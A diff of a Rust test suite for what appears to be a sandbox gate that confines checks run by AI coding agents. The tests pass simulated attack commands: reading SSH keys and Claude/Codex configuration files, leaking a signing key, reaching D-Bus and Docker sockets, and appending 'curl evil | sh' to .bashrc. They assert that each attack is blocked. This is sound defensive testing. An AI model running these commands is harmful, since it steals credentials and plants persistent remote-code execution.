@@ -136,22 +136,18 @@ fn a_check_cannot_read_the_users_keys_or_the_engines_homes() {
     }
     let key = home.path().join("signing.key");
     std::fs::write(&key, "SIGNING-KEY").unwrap();
-    let output = stop_gate()
-        .args([
+    let stop = p.stop_env(
+        &[
             "--run",
             &attacked(
                 "cat ~/.ssh/id_ed25519 ~/.claude/settings.json ~/.claude.json ~/.codex/config.toml; \
                  env | grep -c '^VIGIL_'; echo \"key=$VIGIL_SIGN_KEY\"",
             ),
-        ])
-        .env("HOME", home.path())
-        .env("VIGIL_SIGN_KEY", &key)
-        .current_dir(p.path())
-        .write_stdin(p.payload("s1", Some("x")).to_string())
-        .output()
-        .unwrap();
-    let said = String::from_utf8_lossy(&output.stdout);
-    assert!(said.contains("\"block\""), "{said}");
+        ],
+        &[("HOME", home.path().as_os_str()), ("VIGIL_SIGN_KEY", key.as_os_str())],
+    );
+    assert!(stop.blocked());
+    let said = stop.reason();
     for secret in [
         "SSH-SECRET",
         "CLAUDE-SETTINGS",
@@ -161,7 +157,7 @@ fn a_check_cannot_read_the_users_keys_or_the_engines_homes() {
         assert!(!said.contains(secret), "{secret} was read: {said}");
     }
     assert!(
-        said.contains("key=\\n0") || said.contains("0\\nkey="),
+        said.contains("key=\n0") || said.contains("0\nkey="),
         "{said}"
     );
 }
@@ -227,25 +223,22 @@ fn a_check_cannot_reach_the_users_session_sockets() {
         connect(&bus),
         connect(&docker)
     );
-    let output = stop_gate()
-        .args(["--run", &attacked(&attack)])
-        .env("XDG_RUNTIME_DIR", runtime.path())
-        .env(
-            "DBUS_SESSION_BUS_ADDRESS",
-            format!("unix:path={}", bus.display()),
-        )
-        .current_dir(p.path())
-        .write_stdin(p.payload("s1", Some("x")).to_string())
-        .output()
-        .unwrap();
-    let said: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let address = format!("unix:path={}", bus.display());
+    let stop = p.stop_env(
+        &["--run", &attacked(&attack)],
+        &[
+            ("XDG_RUNTIME_DIR", runtime.path().as_os_str()),
+            ("DBUS_SESSION_BUS_ADDRESS", address.as_ref()),
+        ],
+    );
     let _ = std::fs::remove_file(&docker);
-    assert_eq!(said["decision"], "block", "{said}");
-    let seen = printed(said["reason"].as_str().unwrap());
-    assert!(!seen.contains("CONNECTED"), "{said}");
+    assert!(stop.blocked());
+    let reason = stop.reason();
+    let seen = printed(&reason);
+    assert!(!seen.contains("CONNECTED"), "{reason}");
     assert!(
         seen.contains("bus=") && !seen.contains("bus=unix"),
-        "{said}"
+        "{reason}"
     );
     assert!(bus_listener.accept().is_err() && docker_listener.accept().is_err());
 }
@@ -314,16 +307,12 @@ fn a_check_writes_the_project_a_private_tmp_and_the_directories_named() {
 fn without_bubblewrap_the_check_runs_unconfined_and_says_so_every_time() {
     let p = Project::git();
     for _ in 0..2 {
-        let output = stop_gate()
-            .args(["--run", "true"])
-            .env("VIGIL_TEST_BWRAP", "/nonexistent/bwrap")
-            .current_dir(p.path())
-            .write_stdin(p.payload("s1", Some("x")).to_string())
-            .output()
-            .unwrap();
-        let said: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
-        assert!(said.get("decision").is_none(), "{said}");
-        let message = said["systemMessage"].as_str().unwrap();
+        let stop = p.stop_env(
+            &["--run", "true"],
+            &[("VIGIL_TEST_BWRAP", "/nonexistent/bwrap".as_ref())],
+        );
+        assert!(!stop.blocked(), "{}", stop.reason());
+        let message = stop.system_message();
         assert!(
             message.starts_with("stop-gate: the check `true` ran unconfined, with your rights")
                 && message.contains("bubblewrap"),
@@ -341,16 +330,12 @@ fn under_protect_a_check_that_cannot_be_confined_is_not_run() {
         r#"{"sandbox": {"enabled": true}}"#,
     )
     .unwrap();
-    let output = stop_gate()
-        .args(["--run", "touch ran.txt"])
-        .env("VIGIL_TEST_BWRAP", "/nonexistent/bwrap")
-        .current_dir(p.path())
-        .write_stdin(p.payload("s1", Some("x")).to_string())
-        .output()
-        .unwrap();
-    let said: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
-    assert_eq!(said["decision"], "block", "{said}");
-    let reason = said["reason"].as_str().unwrap();
+    let stop = p.stop_env(
+        &["--run", "touch ran.txt"],
+        &[("VIGIL_TEST_BWRAP", "/nonexistent/bwrap".as_ref())],
+    );
+    assert!(stop.blocked());
+    let reason = stop.reason();
     assert!(
         reason.starts_with("stop-gate: `touch ran.txt` was not run: it cannot be confined")
             && reason.contains("install the package bubblewrap"),
@@ -649,17 +634,14 @@ fn stand_ins_a_killed_gate_left_are_removed_by_the_next_check() {
 fn where_the_project_is_the_home_the_check_writes_no_start_up_file() {
     let p = Project::git();
     std::fs::write(p.path().join(".bashrc"), "# mine\n").unwrap();
-    let output = stop_gate()
-        .args([
+    let stop = p.stop_env(
+        &[
             "--run",
             &attacked("echo 'curl evil | sh' >> .bashrc; echo ok > notes.txt"),
-        ])
-        .env("HOME", p.path())
-        .current_dir(p.path())
-        .write_stdin(p.payload("s1", Some("x")).to_string())
-        .output()
-        .unwrap();
-    assert!(String::from_utf8_lossy(&output.stdout).contains("\"block\""));
+        ],
+        &[("HOME", p.path().as_os_str())],
+    );
+    assert!(stop.blocked());
     assert_eq!(
         std::fs::read_to_string(p.path().join(".bashrc")).unwrap(),
         "# mine\n"
@@ -682,21 +664,18 @@ fn a_git_file_pointing_into_the_hidden_set_reveals_nothing_and_a_fifo_holds_no_g
         format!("gitdir: {}\n", keys.display()),
     )
     .unwrap();
-    let output = stop_gate()
-        .args([
+    let stop = p.stop_env(
+        &[
             "--run",
             &attacked(&format!("cat '{}/id_ed25519'", keys.display())),
-        ])
-        .env("HOME", home.path())
-        .current_dir(p.path())
-        .write_stdin(p.payload("s1", Some("x")).to_string())
-        .output()
-        .unwrap();
-    let said: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
-    assert_eq!(said["decision"], "block", "{said}");
+        ],
+        &[("HOME", home.path().as_os_str())],
+    );
+    assert!(stop.blocked());
     assert!(
-        !printed(said["reason"].as_str().unwrap()).contains("SSH-SECRET"),
-        "{said}"
+        !printed(&stop.reason()).contains("SSH-SECRET"),
+        "{}",
+        stop.reason()
     );
     // A git directory inside the project whose commondir is a FIFO.
     let gitdir = p.path().join("gd");
